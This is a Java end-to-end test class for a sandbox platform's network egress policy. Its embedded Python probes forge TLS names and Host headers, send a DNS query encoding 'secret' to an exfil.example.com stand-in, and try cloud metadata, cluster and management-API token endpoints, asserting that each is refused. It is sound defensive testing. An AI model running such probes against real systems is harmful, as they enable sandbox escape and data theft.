package dev.slate.e2e.attack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.slate.e2e.stack.OnPlatform;
import dev.slate.e2e.stack.Outside;
import dev.slate.e2e.stack.Platform;
import dev.slate.sdk.NetworkPolicy;
import dev.slate.sdk.Sandbox;
import dev.slate.sdk.Slate;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/** Tries to reach what the policy does not allow. */
@OnPlatform
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class NetworkE2E {
    private Platform platform;
    private Slate slate;
    private Sandbox locked;
    private Sandbox open;

    @BeforeAll
    void start(Platform givenPlatform, Slate givenSlate) {
        platform = givenPlatform;
        slate = givenSlate;
        locked = slate.sandbox()
                .image(Platform.PYTHON)
                .network(NetworkPolicy.allowedHosts(Outside.OTHER))
                .run();
        open = slate.sandbox().image(Platform.PYTHON).run();
    }

    @AfterAll
    void end() {
        locked.close();
        open.close();
    }

    @Test
    void n03_addressLiteralsForgedNamesAndOtherHostHeadersAreBlocked() {
        String forged = """
                import socket, ssl, sys
                address, sni, host = sys.argv[1:4]
                context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
                try:
                    raw = socket.create_connection((address, 443), timeout=5)
                    tls = context.wrap_socket(raw, server_hostname=sni or None)
                    tls.sendall(f"GET /n3 HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
                    print("answered", tls.recv(100))
                except Exception as error:
                    print("refused", error)
                """;
        String outside = platform.outside().address();

        assertThat(Python.run(locked, forged, outside, "", Outside.OTHER).stdout())
                .as("literal, no name")
                .startsWith("refused");
        assertThat(Python.run(locked, forged, outside, Outside.UNLISTED, Outside.OTHER)
                        .stdout())
                .as("unlisted name")
                .startsWith("refused");
        assertThat(Python.run(locked, forged, Outside.UNLISTED, Outside.OTHER, Outside.UNLISTED)
                        .stdout())
                .as("address of another name")
                .startsWith("refused");
        assertThat(platform.outside().requestsFor(Outside.UNLISTED))
                .noneMatch(request -> request.target().equals("/n3"));
    }

    @Test
    void n04_dnsIsNoChannelAndOtherProtocolsAreBlocked() {
        String probe = """
                import socket, struct, sys
                def query(name, kind):
                    parts = b"".join(bytes([len(p)]) + p for p in name.encode().split(b"."))
                    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + parts + b"\\0" + struct.pack(">HH", kind, 1)
                def udp(address, port, data):
                    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
                    try:
                        s.sendto(data, (address, port)); return s.recvfrom(2000)[0]
                    except OSError as error:
                        return error
                answer = udp("192.0.2.53", 53, query("c2VjcmV0.exfil.example.com", 16))
                print("txt", answer[3] & 15 if isinstance(answer, bytes) else "none",
                      struct.unpack(">H", answer[6:8])[0] if isinstance(answer, bytes) else 0)
                print("quic", udp("192.0.2.1", 443, b"x" * 1200))
                for port in (22, 25, 53, 853, 5432, 8080):
                    try:
                        s = socket.create_connection(("192.0.2.1", port), timeout=5); s.settimeout(3)
                        s.sendall(b"hello\\r\\n\\r\\n"); print("tcp", port, "answered" if s.recv(10) else "closed")
                    except OSError as error:
                        print("tcp", port, "refused")
                try:
                    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print("icmp socket")
                except OSError as error:
                    print("icmp refused")
                """;
        List<String> lines =
                Python.run(locked, probe).orThrow().stdout().lines().toList();

        assertThat(lines.getFirst())
                .as("answered here, with no data, or refused")
                .matches("txt (0|3|5|none) 0");
        assertThat(lines).filteredOn(line -> line.startsWith("quic")).noneMatch(line -> line.startsWith("quic b'"));
        assertThat(lines)
                .filteredOn(line -> line.startsWith("tcp"))
                .hasSize(6)
                .noneMatch(line -> line.endsWith("answered"));
        assertThat(lines).contains("icmp refused");
    }

    @Test
    void n07_metadataAndClusterAddressesAreUnreachableAlsoWithoutAPolicy() {
        for (Sandbox sandbox : List.of(locked, open)) {
            for (String address : List.of(
                    "169.254.169.254",
                    "10.96.0.1",
                    "127.0.0.1",
                    platform.outside().address())) {
                for (String port : List.of("80", "443")) {
                    assertThat(Python.run(sandbox, Python.CONNECT, address, port)
                                    .stdout())
                            .as(address + ":" + port)
                            .doesNotContain("200 OK")
                            .doesNotContain("answered b'HTTP/1.0 200")
                            .doesNotContain("latest/meta-data");
                }
            }
        }
    }

    @Test
    void theManagementApiIsUnreachable() {
        String gateway = open.exec("sh", "-c", "grep nameserver /etc/resolv.conf | cut -d' ' -f2")
                .stdout()
                .strip();
        int port = platform.endpoint().getPort();
        for (String address : List.of("127.0.0.1", gateway, platform.outside().address())) {
            for (int offset = 0; offset < 3; offset++) {
                assertThat(Python.run(open, Python.CONNECT, address, Integer.toString(port + offset))
                                .stdout())
                        .as(address + ":" + (port + offset))
                        .doesNotContain("HTTP/1.1 200")
                        .doesNotContain("HTTP/1.1 404");
            }
        }
        String api = Python.run(open, """
                        import urllib.request, urllib.error
                        for path in ("/q/health", "/v1/auth/token", "/slate.sandbox.v1.Sandboxes/ListSandboxes"):
                            try:
                                print(path, urllib.request.urlopen("https://api.slate.internal" + path, data=b"", timeout=10).status)
                            except urllib.error.HTTPError as error:
                                print(path, error.code)
                        """).orThrow().stdout();
        assertThat(api.lines()).hasSize(3).allMatch(line -> line.endsWith(" 403"));
    }

    @Test
    void anEmptyPolicyReachesNothingNotEvenDns() {
        try (Sandbox closed = slate.sandbox()
                .image(Platform.PYTHON)
                .network(NetworkPolicy.allowedHosts())
                .run()) {
            String script = """
                    import socket
                    try:
                        print("resolved", socket.gethostbyname("%s"))
                    except OSError as error:
                        print("refused", error)
                    """.formatted(Outside.OTHER);
            assertThat(Python.run(closed, script).stdout()).startsWith("refused");
        }
    }

    @Test
    void aPolicyThatIsNarrowedIsInForceWhenTheCallReturns() {
        try (Sandbox sandbox = slate.sandbox()
                .image(Platform.PYTHON)
                .network(NetworkPolicy.allowedHosts(Outside.OTHER))
                .run()) {
            String get = "import urllib.request; print(urllib.request.urlopen('http://" + Outside.OTHER
                    + "/', timeout=10).status)";
            assertThat(Python.run(sandbox, get).stdout()).startsWith("200");

            sandbox.updateNetworkPolicy(NetworkPolicy.allowedHosts(Outside.BOUND));

            assertThat(Python.run(sandbox, get).exitCode()).isNotZero();
        }
    }

    @Test
    void everyAttemptIsInTheEgressRecords() {
        var _ = Python.run(locked, "import urllib.request; urllib.request.urlopen('http://" + Outside.UNLISTED + "/')");

        String records =
                platform.cli("sandbox", "egress", locked.id()).orThrow().stdout();
        assertThat(records).contains(Outside.UNLISTED).contains("denied");
        assertThat(locked.egress())
                .anyMatch(connection -> connection.host().equals(Outside.UNLISTED) && !connection.allowed());
    }
}
